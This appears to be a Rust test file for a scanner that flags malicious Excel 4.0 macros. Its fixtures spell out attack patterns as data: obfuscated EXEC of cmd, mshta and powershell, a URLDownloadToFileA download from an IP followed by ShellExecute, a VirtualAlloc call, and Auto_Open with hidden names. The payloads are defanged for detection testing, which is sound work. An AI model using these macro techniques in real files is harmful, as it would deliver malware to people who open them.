//! Each finding of macros: macros that raise it, and some that nearly do.

use super::parse::{Style, cell_address, parse};
use super::program::{Cell, Name, Program, SheetKind, Value};
use super::{Visibility, say};
use crate::budget::Budget;
use crate::formats::trial::{file, findings, observed, weight};
use crate::model::{Hints, Limits, Location, Severity};
use crate::stage::{Outcome, Said};

/// A macro sheet M of cells, formulas with an equals sign, and a worksheet S.
fn program(visibility: Visibility, starts: Option<&str>, cells: &[(&str, &str)]) -> Program {
    let mut program = Program::default();
    let macros = program.sheet("M", SheetKind::Macro, visibility, Location::whole());
    let work = program.sheet("S", SheetKind::Work, Visibility::Visible, Location::whole());
    for (at, text) in cells {
        let (sheet, at) = at.strip_prefix("S!").map_or((macros, *at), |at| (work, at));
        let (row, column) = cell_address(at).unwrap();
        let cell = match text.strip_prefix('=') {
            Some(formula) => {
                Cell { formula: Some(parse(formula, Style::A1).unwrap()), value: Value::Empty, unread: None }
            }
            None => Cell::constant(text.parse().map_or_else(|_| Value::Text((*text).into()), Value::Number)),
        };
        program.cell(sheet, row, column, cell);
    }
    if let Some(at) = starts {
        let formula = parse(at, Style::A1).ok();
        program.name(Name { name: "Auto_Open".to_owned(), is_hidden: false, formula });
    }
    program
}

fn said(program: &Program) -> Said {
    let artifact = file("t", Vec::new());
    let budget = Budget::new(Limits::default());
    let mut out = Outcome::new(&artifact, std::sync::Arc::new(Hints::default()), &budget);
    say(program, &mut out).unwrap();
    out.into_said()
}

fn run(cells: &[(&str, &str)]) -> Said {
    said(&program(Visibility::Visible, Some("M!A1"), cells))
}

fn made(said: &Said) -> String {
    let child = said.children.iter().find(|child| child.name.text == "macros as they run");
    child.map(|child| String::from_utf8_lossy(&child.bytes).into_owned()).unwrap_or_default()
}

#[test]
fn a_command_of_pieces_is_put_together() {
    let said = run(&[
        ("A1", "=EXEC(CHAR(99)&CHAR(B1)&MID(\"xdx\",2,1)&\" /c \"&S!A1)"),
        ("A2", "=HALT()"),
        ("B1", "109"),
        ("S!A1", "echo harmless-none"),
    ]);
    assert_eq!(observed(&said, "xlm-starts-program").as_deref(), Some("EXEC(\"cmd /c echo harmless-none\")"));
    assert_eq!(weight(&said, "xlm-starts-program"), Some(Severity::High));
    assert!(said.findings.iter().any(|finding| finding.kind.id == "xlm-open-to-execute" && finding.decisive));
    assert_eq!(made(&said), "M!A1: EXEC(\"cmd /c echo harmless-none\")\n");
    // Without a start of its own it weighs less, and nothing leads to it.
    let alone = said_without_start(&[("A1", "=EXEC(\"cmd /c echo\")")]);
    assert_eq!(weight(&alone, "xlm-starts-program"), Some(Severity::Medium));
    assert_eq!(observed(&alone, "xlm-open-to-execute"), None);
    let viewer = run(&[("A1", "=EXEC(\"notepad.exe readme.txt\")")]);
    assert_eq!(weight(&viewer, "xlm-starts-program"), Some(Severity::Low));
    assert_eq!(observed(&viewer, "xlm-open-to-execute"), None);
}

fn said_without_start(cells: &[(&str, &str)]) -> Said {
    said(&program(Visibility::Visible, None, cells))
}

#[test]
fn both_ways_of_a_condition_are_taken() {
    let said = run(&[
        ("A1", "=IF(GET.WORKSPACE(42),GOTO(C1),CLOSE(FALSE))"),
        ("A2", "=HALT()"),
        ("C1", "=IF(GET.WORKSPACE(19),,GOTO(A2))"),
        ("C2", "=IF(1=2,EXEC(\"harmless-a.exe\"),EXEC(\"harmless-b.exe\"))"),
    ]);
    assert_eq!(observed(&said, "xlm-starts-program").as_deref(), Some("EXEC(\"harmless-b.exe\") and 1 more"));
    assert_eq!(observed(&said, "xlm-checks-sandbox").as_deref(), Some("GET.WORKSPACE(19, 42)"));
    let version = run(&[("A1", "=IF(GET.WORKSPACE(13)>400,ALERT(GET.WORKSPACE(2)))")]);
    assert_eq!(observed(&version, "xlm-checks-sandbox"), None);
}

#[test]
fn what_macros_write_runs() {
    let said = run(&[("A1", "=FORMULA(\"=EX\"&\"EC(\"\"mshta harmless-none\"\")\",A5)"), ("A2", "=GOTO(A5)")]);
    assert_eq!(observed(&said, "xlm-writes-itself").as_deref(), Some("=EXEC(\"mshta harmless-none\")"));
    assert_eq!(observed(&said, "xlm-starts-program").as_deref(), Some("EXEC(\"mshta harmless-none\")"));
    assert!(observed(&said, "xlm-open-to-execute").is_some());
    // A recorded macro fills in a table.
    let honest = run(&[("A1", "=SELECT(S!B2)"), ("A2", "=FORMULA(\"=SUM(R1C1:R1C2)\")"), ("A3", "=RETURN()")]);
    assert_eq!(findings(&honest), [("xlm-macro-sheet", "low"), ("xlm-auto-open", "low")]);
}

#[test]
fn loops_and_subroutines_are_followed() {
    let said = run(&[
        ("A1", "=SET.NAME(\"text\",\"\")"),
        ("A2", "=FOR(\"i\",1,4)"),
        ("A3", "=SET.NAME(\"text\",text&CHAR(INDEX(B1:B4,i)-1))"),
        ("A4", "=NEXT()"),
        ("A5", "=WHILE(LEN(text)<6)"),
        ("A6", "=SET.NAME(\"text\",text&\"!\")"),
        ("A7", "=NEXT()"),
        ("A8", "=D1(text,\"x\")"),
        ("A9", "=HALT()"),
        ("B1", "100"),
        ("B2", "110"),
        ("B3", "101"),
        ("B4", "33"),
        ("D1", "=ARGUMENT(\"what\")"),
        ("D2", "=ARGUMENT(\"more\")"),
        ("D3", "=EXEC(what&more)"),
        ("D4", "=RETURN(1)"),
    ]);
    assert_eq!(observed(&said, "xlm-starts-program").as_deref(), Some("EXEC(\"cmd !!x\")"));
}

#[test]
fn library_functions_are_graded() {
    let said = run(&[
        ("A1", "=REGISTER(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"get\",,1,9)"),
        ("A2", "=get(0,\"http\"&\"://198.51.100.7/x\",\"harmless-none.exe\",0,0)"),
        ("A3", "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"harmless-none.exe\",0,0,0)"),
    ]);
    assert_eq!(weight(&said, "xlm-downloads"), Some(Severity::High));
    assert_eq!(weight(&said, "xlm-calls-library"), Some(Severity::High));
    assert!(observed(&said, "xlm-open-to-execute").unwrap().contains("http://198.51.100.7/x"));
    assert!(made(&said).contains("http://198.51.100.7/x"));
    let own = run(&[("A1", "=REGISTER(\"SOLVER.DLL\",\"Solve\",\"J\",\"solve\")"), ("A2", "=solve(1)")]);
    assert_eq!(findings(&own), [("xlm-macro-sheet", "low"), ("xlm-auto-open", "low"), ("xlm-calls-library", "low")]);
    let hidden = run(&[("A1", "=CALL(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,100,4096,64)")]);
    assert_eq!(weight(&hidden, "xlm-calls-library"), Some(Severity::High));
}

#[test]
fn files_and_addresses() {
    let said = run(&[("A1", "=FOPEN(\"a.txt\",3)"), ("A2", "=FWRITELN(A1,\"text\")"), ("A3", "=FCLOSE(A1)")]);
    assert_eq!(weight(&said, "xlm-writes-file"), Some(Severity::Low));
    assert_eq!(observed(&run(&[("A1", "=FOPEN(\"a.txt\",2)")]), "xlm-writes-file"), None);
    let said = run(&[("A1", "=OPEN(\"http://198.51.100.7/a.xls\")")]);
    assert_eq!(weight(&said, "xlm-downloads"), Some(Severity::High));
    assert_eq!(observed(&run(&[("A1", "=OPEN(\"C:\\a.xls\")")]), "xlm-downloads"), None);
}

#[test]
fn hidden_words_are_seen() {
    let said = run(&[("A1", "=EXEC(B1&B2)"), ("B1", "powers"), ("B2", "hell -x")]);
    assert!(observed(&said, "xlm-obfuscated").is_some());
    let plain = run(&[("A1", "=EXEC(\"powershell -x\")")]);
    assert_eq!(observed(&plain, "xlm-obfuscated"), None);
}

#[test]
fn tools_weigh_little_hidden_or_not() {
    let cells = [
        ("A1", "=ECHO(FALSE)"),
        ("A2", "=ADD.COMMAND(1,\"Tools\",B1:B2)"),
        ("A3", "=IF(ISERROR(A2),ALERT(\"no menu\"))"),
        ("A4", "=RETURN()"),
        ("B1", "Sort"),
    ];
    let tool = said(&program(Visibility::VeryHidden, Some("M!A1"), &cells));
    assert_eq!(findings(&tool), [("xlm-hidden-sheet", "low"), ("xlm-macro-sheet", "low"), ("xlm-auto-open", "low")]);
    // What could not be read may do anything.
    let mut unread = program(Visibility::VeryHidden, Some("M!A1"), &cells);
    unread.problem(crate::model::Problem::damaged("x", Location::whole()));
    let unread = said(&unread);
    assert_eq!(
        findings(&unread),
        [("xlm-hidden-sheet", "high"), ("xlm-macro-sheet", "medium"), ("xlm-auto-open", "high")]
    );
}

#[test]
fn macros_that_never_end_do() {
    let deep = format!("={}1{}", "IF(TRUE,".repeat(90), ")".repeat(90));
    let long = format!("=SET.NAME(\"x\",REPT(\"{}\",250))", "a".repeat(250));
    let cases: [&[(&str, &str)]; 9] = [
        &[("A1", &deep), ("A2", "=A1()")],
        &[("A1", &long), ("A2", "=WHILE(LEN(x)>1)"), ("A3", "=SET.NAME(\"y\",MID(x,9,9))"), ("A4", "=NEXT()")],
        &[("A1", "=GOTO(A1)")],
        &[("A1", "=A1()")],
        &[("A1", "=WHILE(TRUE)"), ("A2", "=SET.NAME(\"x\",x&\"aaaaaaaaaaaaaaaa\"&x)"), ("A3", "=NEXT()")],
        &[("A1", "=B1"), ("B1", "=C1&C1"), ("C1", "=B1")],
        &[("A1", "=FOR(\"i\",1,1000000000)"), ("A2", "=FORMULA(\"=EXEC(\"\"x\"\")\",A9)"), ("A3", "=NEXT()")],
        &[("A1", "=EVALUATE(\"EVALUATE(A1)\")")],
        &[("A1", "=FORMULA.FILL(\"=GOTO(R1C1)\",B1:XFD1048576)"), ("A2", "=SUM(A1:XFD1048576)")],
    ];
    for cells in cases {
        let started = std::time::Instant::now();
        let _ = run(cells);
        assert!(started.elapsed().as_secs() < 20, "{cells:?}");
    }
}

#[test]
fn names_lead_to_names() {
    let mut named = program(Visibility::Visible, Some("start"), &[("A5", "=EXEC(\"cmd /c x\")")]);
    named.name(Name { name: "start".to_owned(), is_hidden: true, formula: parse("M!$A$5", Style::A1).ok() });
    assert!(observed(&said(&named), "xlm-open-to-execute").is_some());
}

#[test]
fn one_character_at_a_time_is_enough() {
    // A subroutine gives each character, names hold zeros, and the text goes to the cell that is selected.
    let mut cells: Vec<(String, String)> = vec![
        ("A1".to_owned(), "=SELECT(D1)".to_owned()),
        ("A2".to_owned(), "=SET.NAME(\"t\",\"\")".to_owned()),
        ("A3".to_owned(), "=FOR.CELL(\"c\",C1:C60,TRUE)".to_owned()),
        ("A4".to_owned(), "=SET.NAME(\"t\",t&one(c))".to_owned()),
        ("A5".to_owned(), "=NEXT()".to_owned()),
        ("A6".to_owned(), "=FORMULA(t,ACTIVE.CELL())".to_owned()),
        ("A7".to_owned(), "=GOTO(D1)".to_owned()),
        ("B1".to_owned(), "=ARGUMENT(\"v\")".to_owned()),
        ("B2".to_owned(), "=RETURN(CHAR(ROUND(v/2,0)))".to_owned()),
    ];
    for (row, c) in "=EXEC(\"mshta harmless-none\")".bytes().enumerate() {
        cells.push((format!("C{}", row + 1), (f64::from(c) * 2.0 + 0.4).to_string()));
    }
    let cells: Vec<(&str, &str)> = cells.iter().map(|(at, text)| (at.as_str(), text.as_str())).collect();
    let mut named = program(Visibility::Hidden, Some("M!A1"), &cells);
    named.name(Name { name: "o\0ne".to_owned(), is_hidden: true, formula: parse("M!$B$1", Style::A1).ok() });
    assert_eq!(observed(&said(&named), "xlm-starts-program").as_deref(), Some("EXEC(\"mshta harmless-none\")"));
}
